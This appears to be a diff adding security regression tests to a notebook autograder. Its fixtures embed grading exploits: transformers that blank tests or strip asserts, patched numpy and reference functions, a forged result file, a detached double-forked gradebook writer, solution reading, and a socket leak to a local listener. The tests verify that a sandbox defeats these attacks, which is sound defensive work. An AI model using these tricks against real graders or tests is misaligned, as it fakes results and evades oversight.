@@ -625,11 +625,24 @@ def test_nbgrader_runs_without_its_environment_on_path(tmp_path):
 
 
 def test_a_result_file_written_by_the_submission_is_rejected(reports):
-    """Issue 17 part 1: the forged result file gave 16/16 plus the hand-marked part."""
+    """Issue 17 part 1: the forged result file gave 16/16 plus the hand-marked part. The isolated
+    kernel can no longer reach the file or the grading process (the rest is graded); without
+    isolation the signature check rejects the forged file."""
     report, _ = reports["forged_result"]
-    assert not report.graded and report.score == 0
-    assert all(p.points == 0 for p in report.parts)
-    assert any("does not carry this grading's signature" in e for e in report.errors)
+    assert report.score == 0
+    assert all(p.points == 0 for p in report.parts if p.kind == "auto")
+    assert report.graded or any("does not carry this grading's signature" in e for e in report.errors)
+
+
+def test_an_unsigned_result_is_rejected(tmp_path):
+    from course_lib.grading._worker import signature
+    from course_lib.grading.grader import GradeReport, _build_report
+
+    result = {"generate": {"success": True}, "autograde": {"success": True}, "grades": [], "error": None}
+    assert signature(result, b"key") != signature(result, b"other key")
+    report = GradeReport(assignment=ASSIGNMENT, notebook=ASSIGNMENT, score=0.0, max_score=0.0, parts=[])
+    _build_report(report, [], {"forged": True}, False, tmp_path / "none.ipynb", 1, tmp_path)
+    assert not report.graded and any("does not carry this grading's signature" in e for e in report.errors)
 
 
 def test_strict_auto_score():
@@ -900,3 +913,279 @@ def test_hidden_test_helpers():
         assert_close([1.0, 2.5], [1.0, 2.0], "f(x)")
     with pytest.raises(AssertionError, match="expected shape"):
         assert_close([1.0], [1.0, 2.0], "f(x)")
+
+
+# -- issue 17 part 1: exploits against an isolated kernel --------------------------------------------
+# Each submission below is the student copy (nothing implemented, or part 1 right for the visible
+# tests only) plus an attack in an answer cell. It is graded in a copy of the course whose files
+# (and a gradebook.db / result.json the attacks aim at) are hashed before and after.
+
+BLANK_TESTS = """
+def _blank(lines):  # every later cell that holds tests becomes empty
+    return [] if any("tests passed" in line for line in lines) else lines
+get_ipython().input_transformers_post.append(_blank)
+"""
+
+STRIP_ASSERTS = """
+import ast as _ast
+class _NoAsserts(_ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return _ast.Pass()
+get_ipython().ast_transformers.append(_NoAsserts())
+"""
+
+PATCH_HELPERS = """
+import numpy as _np
+import course_lib.grading.testing as _testing
+_np.array_equal = lambda *args, **kwargs: True
+_np.allclose = lambda *args, **kwargs: True
+_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
+_testing.assert_close = lambda *args, **kwargs: None
+"""
+
+PATCH_REFERENCE = """
+import course_lib.composition as _reference
+_reference.one_hot.__code__ = one_hot.__code__  # the reference now gives the student's answers
+"""
+
+FORGE_AND_KILL = FORGED_RESULT.replace('"../../../result.json"', "RESULT")
+
+BACKGROUND_WRITER = """
+import os, sys, subprocess
+subprocess.Popen([sys.executable, "-c", (
+    "import os, time\\n"
+    "if os.fork(): os._exit(0)\\n"  # double fork: the writer belongs to nobody's process tree
+    "os.setsid(); time.sleep(4)\\n"
+    f"open({GRADEBOOK!r}, 'w').write('full marks')\\n")], start_new_session=True,
+    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+LEAK_SOLUTIONS = """
+from pathlib import Path
+import course_lib
+_text = ""
+for _root in (Path(course_lib.__file__).resolve().parents[1], Path(COURSE)):
+    try:
+        _text += (_root / "solutions" / "ch01_composition" / "ch01_composition.ipynb").read_text()
+    except OSError as exc:
+        print("cannot read:", exc)
+if _text:
+    raise RuntimeError("LEAKED " + _text[_text.index("BEGIN HIDDEN TESTS"):][:300])
+"""
+
+SEND_OUT = """
+import socket
+with socket.create_connection(("127.0.0.1", PORT), timeout=5) as _s:
+    _s.sendall(b"LEAKED answers of the hidden tests")
+"""
+
+EXPLOITS = {  # name -> (code appended to part 1's answer cell, part 1 right for the visible tests?)
+    "blank_tests": (BLANK_TESTS, False),
+    "strip_asserts": (STRIP_ASSERTS, True),
+    "patch_helpers": (PATCH_HELPERS, True),
+    "patch_reference": (PATCH_REFERENCE, True),
+    "forge_and_kill": (FORGE_AND_KILL, False),
+    "background_writer": (BACKGROUND_WRITER, False),
+    "leak_solutions": (LEAK_SOLUTIONS, False),
+    "send_out": (SEND_OUT, False),
+}
+
+
+def _tree_hash(folder: Path) -> dict[str, str]:
+    import hashlib
+
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def _exploit_notebook(name: str, values: dict) -> dict:
+    code, visible_right = EXPLOITS[name]
+    nb = _load(EXERCISE)
+    cell = _cell(nb, "part1_one_hot_solution")
+    head = HARDCODED_ONE_HOT if visible_right else _text(cell)
+    constants = "".join(f"{k} = {v!r}\n" for k, v in values.items())
+    cell["source"] = head + "\n" + constants + code
+    return nb
+
+
+@pytest.fixture(scope="module")
+def exploit_course(tmp_path_factory):
+    """A copy of the course (config, ch01's source and student copy, a gradebook and a result file
+    to aim at) and every exploit graded in it once: (course, {name: report}, hashes before,
+    hashes after, bytes the network listener received)."""
+    import socket
+    import threading
+
+    course = tmp_path_factory.mktemp("exploit_course")
+    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
+    for tree in ("solutions", "exercises"):
+        shutil.copytree(ROOT / tree / ASSIGNMENT, course / tree / ASSIGNMENT)
+    (course / "gradebook.db").write_bytes(b"the instructors' gradebook")
+    (course / "result.json").write_text("{}")
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(1.0)
+    received: list[bytes] = []
+
+    def listen():
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            with conn:
+                received.append(conn.recv(1000))
+
+    stop = threading.Event()
+    thread = threading.Thread(target=listen, daemon=True)
+    thread.start()
+    values = {"RESULT": str(course / "result.json"), "GRADEBOOK": str(course / "gradebook.db"),
+              "COURSE": str(course), "PORT": listener.getsockname()[1]}
+    folder = tmp_path_factory.mktemp("exploits")
+    paths = {}
+    for name in EXPLOITS:
+        paths[name] = folder / f"{name}.ipynb"
+        paths[name].write_text(json.dumps(_exploit_notebook(name, values)), encoding="utf-8")
+    before = _tree_hash(course)
+    with ThreadPoolExecutor(max_workers=3) as pool:
+        graded = dict(pool.map(lambda n: (n, grade_notebook(paths[n], ASSIGNMENT, root=course)), EXPLOITS))
+    time.sleep(8)  # the background writer waits 4 s after its cell
+    after = _tree_hash(course)
+    stop.set()
+    thread.join()
+    listener.close()
+    return course, graded, before, after, received
+
+
+def _assert_exploit_failed(exploit_course, name: str) -> None:
+    _, graded, before, after, _ = exploit_course
+    report = graded[name]
+    assert report.graded, (name, report.errors)
+    assert report.score == 0, (name, report.summary())
+    assert before == after, (name, {k for k in before if before[k] != after.get(k)})
+
+
+def test_input_transformer_cannot_blank_the_tests(exploit_course):
+    """Issue 17 part 1: an input transformer blanking the later test cells gave 16/16."""
+    _assert_exploit_failed(exploit_course, "blank_tests")
+    error = exploit_course[1]["blank_tests"].part("part2_atomic_fractions").error
+    assert "did not run to its end" in error or "transformer" in error
+
+
+def test_ast_transformer_cannot_strip_asserts(exploit_course):
+    """Issue 17 part 1: an AST transformer stripping `assert` gave points for wrong code."""
+    _assert_exploit_failed(exploit_course, "strip_asserts")
+    assert "transformers" in exploit_course[1]["strip_asserts"].part("part1_one_hot").error
+
+
+def test_patched_numpy_and_assertion_helper_are_caught(exploit_course):
+    """Issue 17 part 1: np.allclose/isclose/array_equal and assert_close patched."""
+    _assert_exploit_failed(exploit_course, "patch_helpers")
+    error = exploit_course[1]["patch_helpers"].part("part1_one_hot").error
+    assert "numpy.array_equal" in error
+
+
+def test_patched_reference_function_is_caught(exploit_course):
+    """Issue 17 part 1: the reference function the hidden tests compare against patched."""
+    _assert_exploit_failed(exploit_course, "patch_reference")
+    assert "course_lib.composition.one_hot" in exploit_course[1]["patch_reference"].part("part1_one_hot").error
+
+
+def test_result_file_and_grader_are_out_of_reach(exploit_course):
+    """Issue 17 part 1: overwriting the result file and killing the grading process: now the
+    kernel can neither write the file nor signal the grader, and the rest is graded."""
+    _assert_exploit_failed(exploit_course, "forge_and_kill")
+    report = exploit_course[1]["forge_and_kill"]
+    assert not any("signature" in e for e in report.errors)
+
+
+def test_background_process_dies_with_the_kernel(exploit_course):
+    """Issue 17 part 1: a detached (double-forked, setsid) process rewrote gradebook.db after
+    autograding."""
+    _assert_exploit_failed(exploit_course, "background_writer")
+    course = exploit_course[0]
+    assert (course / "gradebook.db").read_bytes() == b"the instructors' gradebook"
+
+
+def test_solutions_cannot_be_read_or_leaked(exploit_course):
+    """Issue 17 part 1: an answer cell read solutions/ and leaked it through the report."""
+    _assert_exploit_failed(exploit_course, "leak_solutions")
+    text = exploit_course[1]["leak_solutions"].to_json()
+    assert "LEAKED" not in text and "hidden_rng" not in text
+
+
+def test_kernel_has_no_network(exploit_course):
+    """Issue 17 part 1: an answer cell opening a socket to the outside."""
+    _assert_exploit_failed(exploit_course, "send_out")
+    assert exploit_course[4] == []
+    assert "Network is unreachable" in " ".join(exploit_course[1]["send_out"].errors)
+
+
+def test_input_transformer_cannot_blank_the_tests_in_nbgrader_autograde(tmp_path):
+    """Issue 17 part 1: the same attack through nbgrader's own generate_assignment and autograde
+    (the course's nbgrader_config.py) gave 16/16; the kernel also cannot touch the course."""
+    from nbgrader.api import Gradebook
+
+    course = tmp_path / "course"
+    course.mkdir()
+    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
+    for tree in ("solutions", "exercises"):
+        shutil.copytree(ROOT / tree / ASSIGNMENT, course / tree / ASSIGNMENT)
+    submitted = course / "submitted" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    submitted.parent.mkdir(parents=True)
+    nb = _exploit_notebook("blank_tests", {})
+    _cell(nb, "part1_one_hot_solution")["source"] += (  # and try to reach the course from the kernel
+        f"\nfor _p in ({str(course / 'nbgrader_config.py')!r}, {str(submitted)!r}):\n"
+        "    try:\n        open(_p, 'a').write('# changed by the submission')\n"
+        "    except OSError:\n        pass\n")
+    submitted.write_text(json.dumps(nb), encoding="utf-8")
+    nbgrader = [str(Path(sys.executable).parent / "nbgrader")]
+    for step in (["generate_assignment", ASSIGNMENT, "--force"], ["autograde", ASSIGNMENT, "--force"]):
+        if step[0] == "autograde":
+            before = _tree_hash(course)
+        run = subprocess.run(nbgrader + step, cwd=course, capture_output=True, text=True, timeout=600)
+        assert run.returncode == 0, run.stdout + run.stderr
+    after = _tree_hash(course)
+    changed = {k for k in before if k != "gradebook.db" and after.get(k) != before[k]}
+    assert not changed, changed  # (autograded/ is new; nbgrader itself writes the gradebook)
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        submission = gb.find_submission(ASSIGNMENT, "mallory")
+        assert submission.score == 0, [(g.name, g.score) for g in submission.notebooks[0].grades]
+    graded = json.loads((course / "autograded" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
+    assert "did not run to its end" in json.dumps(_cell(graded, "part2_atomic_fractions")["outputs"])
+
+
+def test_grading_without_root_says_which_protections_are_missing(monkeypatch):
+    """Without root the kernel cannot become nobody: it still gets the namespaces (unshare -r)
+    and the report says what is missing, never silently."""
+    from course_lib.grading.sandbox import isolation_problem
+
+    monkeypatch.setenv("COURSE_GRADING_SANDBOX", "off")
+    assert "turned off" in isolation_problem()
+    monkeypatch.setenv("COURSE_GRADING_SANDBOX", "no-root")
+    assert isolation_problem().startswith("kernel isolation incomplete: separate user")
+    report = grade_notebook(SOLUTION, ASSIGNMENT, root=ROOT)
+    assert report.graded and report.score == FULL, report.summary()
+    assert [e for e in report.errors if "isolation" in e] == [isolation_problem()]
+
+
+def test_attestation_verdicts():
+    import numpy
+
+    from course_lib.grading.integrity import fingerprints, modules_to_check, verify
+
+    assert "numpy" in modules_to_check("x = 1") and "course_lib.composition" in modules_to_check(
+        "from course_lib import composition as reference")
+    prints = fingerprints(["numpy"])
+    line = "\ncourse-grading-attest abc {}\n"  # as the kernel writes it
+    ok = line.format(json.dumps({"hooks": [], "fingerprints": prints}))
+    assert verify("abc", "one_hot: tests passed\n" + ok) == (None, "one_hot: tests passed\n")
+    assert "did not run to its end" in verify("abc", "one_hot: tests passed\n")[0]
+    assert "did not run to its end" in verify("xyz", ok)[0]  # another run's token
+    hooked = line.format(json.dumps({"hooks": ["_blank"], "fingerprints": prints}))
+    assert "_blank" in verify("abc", hooked)[0]
+    patched = copy.deepcopy(prints)
+    patched["numpy"]["allclose"] = "function 0123"
+    assert "numpy.allclose" in verify("abc", line.format(json.dumps({"hooks": [], "fingerprints": patched})))[0]
+    assert numpy.allclose.__name__ == "allclose"
